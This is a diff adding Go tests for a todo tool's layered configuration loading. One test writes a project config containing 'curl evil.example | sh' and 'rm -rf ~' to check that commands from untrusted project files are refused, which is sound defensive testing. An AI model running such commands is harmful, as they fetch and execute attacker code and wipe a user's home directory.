@@ -0,0 +1,209 @@
+package pkg
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestLoadConfigDefaults(t *testing.T) {
+	setupTestDir(t)
+
+	cfg, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+
+	if cfg.DefaultList != "main" {
+		t.Errorf("DefaultList = %q, want %q", cfg.DefaultList, "main")
+	}
+	if cfg.BranchTracking {
+		t.Error("BranchTracking should be disabled by default")
+	}
+}
+
+func TestSaveAndLoadConfig(t *testing.T) {
+	setupTestDir(t)
+
+	err := SaveConfig(&Config{DefaultList: "work", BranchTracking: true})
+	if err != nil {
+		t.Fatalf("SaveConfig failed: %v", err)
+	}
+
+	cfg, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+
+	if cfg.DefaultList != "work" {
+		t.Errorf("DefaultList = %q, want %q", cfg.DefaultList, "work")
+	}
+	if !cfg.BranchTracking {
+		t.Error("BranchTracking should be enabled")
+	}
+
+	// The default list from the config is used when no list is selected
+	currentList, err := GetCurrentList()
+	if err != nil {
+		t.Fatalf("GetCurrentList failed: %v", err)
+	}
+	if currentList != "work" {
+		t.Errorf("GetCurrentList() = %q, want %q", currentList, "work")
+	}
+}
+
+func TestLoadConfigInvalid(t *testing.T) {
+	setupTestDir(t)
+
+	EnsureTodoDirectory()
+	os.WriteFile(GetConfigPath(), []byte("default_list: [unterminated"), 0644)
+
+	if _, err := LoadConfig(); err == nil {
+		t.Error("LoadConfig should fail for malformed YAML")
+	}
+}
+
+func TestLoadConfigLayers(t *testing.T) {
+	setupTestDir(t)
+	userDir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", userDir)
+	for _, name := range []string{"TODO_DEFAULT_LIST", "TODO_TIME_FORMAT", "NO_COLOR", "TODO_COLOR", "TODO_SORT", "TODO_CONFIRM"} {
+		t.Setenv(name, "")
+	}
+
+	os.MkdirAll(filepath.Join(userDir, "todo"), 0755)
+	os.WriteFile(filepath.Join(userDir, "todo", "config.yaml"), []byte("default_list: inbox\ndisplay:\n  time_format: Jan 2 15:04\n  color: always\n  sort: priority\nconfirm:\n  require:\n    remove: true\n"), 0644)
+	EnsureTodoDirectory()
+	os.WriteFile(GetConfigPath(), []byte("display:\n  color: never\nconfirm:\n  require:\n    adopt: true\n"), 0644)
+
+	// The project's settings override the user's, which fill in the rest
+	cfg, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.DefaultList != "inbox" || cfg.Display.TimeLayout() != "Jan 2 15:04" || cfg.Display.Sort != SortPriority {
+		t.Errorf("Expected the user's defaults, got %+v", cfg)
+	}
+	if cfg.Display.Color != ColorNever {
+		t.Errorf("Expected the project's color setting, got %q", cfg.Display.Color)
+	}
+	if !cfg.NeedsConfirmation(ConfirmRemove) || !cfg.NeedsConfirmation(ConfirmAdopt) {
+		t.Errorf("Expected the confirmations of both files, got %v", cfg.Confirm.Require)
+	}
+
+	// The environment overrides both
+	t.Setenv("TODO_DEFAULT_LIST", "work")
+	t.Setenv("NO_COLOR", "1")
+	t.Setenv("TODO_SORT", SortPosition)
+	t.Setenv("TODO_CONFIRM", PromptsOff)
+	cfg, err = LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.DefaultList != "work" || cfg.Display.Color != ColorNever || cfg.Display.Sort != SortPosition || cfg.NeedsConfirmation(ConfirmRemove) {
+		t.Errorf("Expected the environment to override the files, got %+v", cfg)
+	}
+	t.Setenv("TODO_COLOR", ColorAlways)
+	if cfg, _ := LoadConfig(); cfg.Display.Color != ColorAlways {
+		t.Errorf("Expected TODO_COLOR to win over NO_COLOR, got %q", cfg.Display.Color)
+	}
+	t.Setenv("TODO_SORT", "alphabetical")
+	if _, err := LoadConfig(); err == nil {
+		t.Error("Expected an invalid TODO_SORT to fail")
+	}
+
+	// Saving the project's settings leaves the other layers out
+	project, err := LoadProjectConfig()
+	if err != nil {
+		t.Fatalf("LoadProjectConfig failed: %v", err)
+	}
+	if project.DefaultList != "main" || project.Display.TimeFormat != "" || project.Display.Color != ColorNever {
+		t.Errorf("Expected only the project's settings, got %+v", project)
+	}
+}
+
+func TestLoadConfigUserCommandsOnly(t *testing.T) {
+	setupTestDir(t)
+	userDir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", userDir)
+
+	os.MkdirAll(filepath.Join(userDir, "todo"), 0755)
+	os.WriteFile(filepath.Join(userDir, "todo", "config.yaml"), []byte("notify:\n  channels:\n    mine:\n      type: command\n      command: notify-me\n"), 0644)
+	EnsureTodoDirectory()
+	os.WriteFile(GetConfigPath(), []byte(`breakdown:
+  command: curl evil.example | sh
+notify:
+  channels:
+    mine:
+      type: command
+      command: rm -rf ~
+    theirs:
+      type: command
+      command: rm -rf ~
+    team:
+      type: slack
+      url: https://hooks.slack.com/services/T0/B0/x
+`), 0644)
+
+	// Commands come from the user's config only, whatever the project sets
+	cfg, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.Breakdown.Command != "" || cfg.Notify.Channels["theirs"].Command != "" {
+		t.Errorf("Expected the project's commands to be left out, got %+v", cfg)
+	}
+	if cfg.Notify.Channels["mine"].Command != "notify-me" {
+		t.Errorf("Expected the user's command to be kept, got %q", cfg.Notify.Channels["mine"].Command)
+	}
+	if cfg.Notify.Channels["team"].URL == "" {
+		t.Errorf("Expected the project's other settings to be kept, got %+v", cfg.Notify.Channels["team"])
+	}
+
+	// The commands left out are named when they would have been run
+	if _, err := NewBreakdownProvider(cfg); err == nil || !strings.Contains(err.Error(), "breakdown.command in .todo/config.yaml isn't run") {
+		t.Errorf("Expected the breakdown command to be refused, got %v", err)
+	}
+	if err := cfg.ChannelCommandError("theirs"); err == nil {
+		t.Error("Expected the theirs channel's command to be refused")
+	}
+	if err := cfg.ChannelCommandError("mine"); err != nil {
+		t.Errorf("Expected the mine channel's command to run, got %v", err)
+	}
+
+	// The project's own config still holds its settings to save them back
+	if project, _ := LoadProjectConfig(); project.Breakdown.Command == "" {
+		t.Error("Expected LoadProjectConfig to keep the project's command")
+	}
+}
+
+func TestLoadConfigInvalidDisplay(t *testing.T) {
+	setupTestDir(t)
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	EnsureTodoDirectory()
+
+	for _, content := range []string{"display:\n  color: sometimes\n", "display:\n  sort: alphabetical\n", "display:\n  time_format: at noon\n"} {
+		os.WriteFile(GetConfigPath(), []byte(content), 0644)
+		if _, err := LoadConfig(); err == nil {
+			t.Errorf("LoadConfig should fail for %q", content)
+		}
+	}
+}
+
+func TestColorEnabled(t *testing.T) {
+	for _, tc := range []struct {
+		setting  string
+		terminal bool
+		want     bool
+	}{
+		{"", true, true},
+		{ColorAuto, false, false},
+		{ColorAlways, false, true},
+		{ColorNever, true, false},
+	} {
+		if got := ColorEnabled(tc.setting, tc.terminal); got != tc.want {
+			t.Errorf("ColorEnabled(%q, %v) = %v, want %v", tc.setting, tc.terminal, got, tc.want)
+		}
+	}
+}